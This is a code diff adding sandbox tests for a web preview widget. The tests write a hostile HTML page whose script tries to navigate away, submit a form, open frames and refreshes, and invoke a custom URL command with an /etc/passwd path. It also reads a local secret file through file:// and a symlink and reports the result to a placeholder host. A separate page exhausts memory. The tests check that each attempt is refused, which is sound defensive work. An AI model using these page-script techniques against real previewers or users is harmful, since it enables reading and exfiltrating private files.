@@ -17,6 +17,7 @@
 #include <QLayout>
 #include <QSignalSpy>
 #include <QTest>
+#include <QUrlQuery>
 #include <gtest/gtest.h>
 #include <signal.h>
 
@@ -326,6 +327,123 @@ TEST_F(WebPreviewTest, ShowsThePageAndHandsOnItsLinks)
     EXPECT_EQ(opener.recordedArguments(), opened);
     EXPECT_EQ(commands.size(), 1);
     EXPECT_EQ(m_view.state(), PreviewView::State::WebPage);
+}
+
+// A generator that writes a hostile page: whatever its script, refresh, form or frame attempt,
+// nothing leaves without a click and nothing outside the page's folder is read.
+class HostilePageTest : public PreviewViewTest {
+protected:
+    void SetUp() override
+    {
+        PreviewViewTest::SetUp();
+        PreviewWebModule::setPath(QStringLiteral(TOLVANE_WEBVIEW_MODULE));
+        const QString home = TestEnvironment::home();
+        FakeGenerator::writePicture(home + QStringLiteral("/picture.png"));
+        FakeGenerator::writePicture(home + QStringLiteral("/secret.png"));
+        TestEnvironment::writeFile(home + QStringLiteral("/secret.txt"), "secret");
+        QByteArray page = R"(<html><body style="margin:0">
+<a style="display:block;height:40px" href="https://clicked.example/">clicked</a>
+<form action="https://form.example/" method="post"><input name="q" value="1"></form>
+<img id="inside" src="page1.png"><img id="outside" src="file://HOME/secret.png">
+<img id="linked" src="page-link.png">
+<script>
+function loaded(id) { const image = document.getElementById(id); return image.naturalWidth > 0; }
+const steps = [
+  () => { location.href = "https://script.example/"; },
+  () => { window.open("https://popup.example/"); },
+  () => { document.forms[0].submit(); },
+  () => { location.href = "tolvane://reveal/image?path=%2Fetc%2Fpasswd"; },
+  () => { const frame = document.createElement("iframe");
+          frame.src = "https://frame.example/"; document.body.appendChild(frame); },
+  () => { const refresh = document.createElement("meta"); refresh.httpEquiv = "refresh";
+          refresh.content = "0;url=https://refresh.example/"; document.head.appendChild(refresh); },
+  () => fetch("file://HOME/secret.txt").then(answer => answer.text(), () => "refused")
+          .then(text => { location.href = "https://report.example/?inside=" + loaded("inside")
+            + "&outside=" + loaded("outside") + "&linked=" + loaded("linked")
+            + "&fetched=" + encodeURIComponent(text); }),
+];
+let step = 0;
+function next() { if (step < steps.length) { steps[step++](); setTimeout(next, 300); } }
+window.addEventListener("load", () => setTimeout(next, 50));
+</script></body></html>)";
+        page.replace("HOME", QFile::encodeName(home));
+        TestEnvironment::writeFile(home + QStringLiteral("/page.html"), page);
+        installGenerator("cp \"$HOME/page.html\" \"$6/index.html\"; "
+                         "cp \"$HOME/picture.png\" \"$6/page1.png\"; "
+                         "ln -s \"$HOME/secret.png\" \"$6/page-link.png\"");
+    }
+};
+
+TEST_F(HostilePageTest, NothingLeavesWithoutAClickAndNothingOutsideIsRead)
+{
+    FakeOpener opener;
+    QSignalSpy commands(&m_view, &PreviewView::urlCommandRequested);
+    QSignalSpy refused(&m_view, &PreviewView::navigationRefused);
+    preview(std::chrono::seconds(60));
+    ASSERT_EQ(m_view.state(), PreviewView::State::WebPage) << m_view.reason().toStdString();
+
+    const auto refusedHosts = [&] {
+        QStringList hosts;
+        for (const QList<QVariant>& arguments : std::as_const(refused))
+            hosts.append(arguments.first().toUrl().host());
+        return hosts;
+    };
+    ASSERT_TRUE(TestEnvironment::waitUntil(
+        [&] {
+            return refusedHosts().contains("report.example")
+                && refusedHosts().contains("refresh.example");
+        },
+        60000))
+        << refusedHosts().join(' ').toStdString();
+    // window.open without a click, and a URL command sent by a script, the engine drops itself.
+    for (const char* host : { "script.example", "form.example", "frame.example" })
+        EXPECT_TRUE(refusedHosts().contains(QLatin1StringView(host))) << host;
+
+    QUrl report;
+    for (const QList<QVariant>& arguments : std::as_const(refused)) {
+        if (arguments.first().toUrl().host() == u"report.example")
+            report = arguments.first().toUrl();
+    }
+    const QUrlQuery read(report);
+    EXPECT_EQ(read.queryItemValue("inside"), "true");
+    EXPECT_EQ(read.queryItemValue("outside"), "false");
+    EXPECT_EQ(read.queryItemValue("linked"), "false");
+    EXPECT_EQ(read.queryItemValue("fetched"), "refused");
+
+    // A real click does leave; it is the only thing that reached the browser.
+    QWidget* target = m_view.webContent()->widget()->focusProxy();
+    ASSERT_NE(target, nullptr);
+    QTest::mouseClick(target, Qt::LeftButton, {}, QPoint(20, 20));
+    ASSERT_TRUE(
+        TestEnvironment::waitUntil([&] { return !opener.recordedArguments().isEmpty(); }, 10000));
+    EXPECT_EQ(opener.recordedArguments(), QStringList { "https://clicked.example/" });
+    EXPECT_TRUE(commands.isEmpty());
+    EXPECT_EQ(m_view.state(), PreviewView::State::WebPage);
+}
+
+// A page that takes 1.5 GB of memory for its script: its process stops at the limit, and the
+// card says why.
+TEST_F(HostilePageTest, APageBeyondItsMemoryLimitShowsTheCard)
+{
+    TestEnvironment::writeFile(TestEnvironment::home() + QStringLiteral("/page.html"), R"(<html>
+<body><script>
+const kept = [];
+function more() {
+  if (kept.length == 24) { location.href = "https://survived.example/"; return; }
+  kept.push(new Array(8 << 20).fill(kept.length + 0.5));
+  setTimeout(more, 0);
+}
+window.addEventListener("load", more);
+</script></body></html>)");
+    m_view.setPageMemoryLimit(qint64(512) << 20);
+    QSignalSpy refused(&m_view, &PreviewView::navigationRefused);
+    preview(std::chrono::seconds(60));
+    ASSERT_TRUE(TestEnvironment::waitUntil(
+        [&] { return m_view.state() == PreviewView::State::Card || !refused.isEmpty(); }, 120000));
+    EXPECT_TRUE(refused.isEmpty()) << "the page got all of its 1.5 GB";
+    EXPECT_EQ(m_view.state(), PreviewView::State::Card);
+    EXPECT_TRUE(m_view.reason().contains(QStringLiteral("512 MB")))
+        << m_view.reason().toStdString();
 }
 
 TEST_F(WebPreviewTest, WithoutTheWebModuleShowsTheCard)
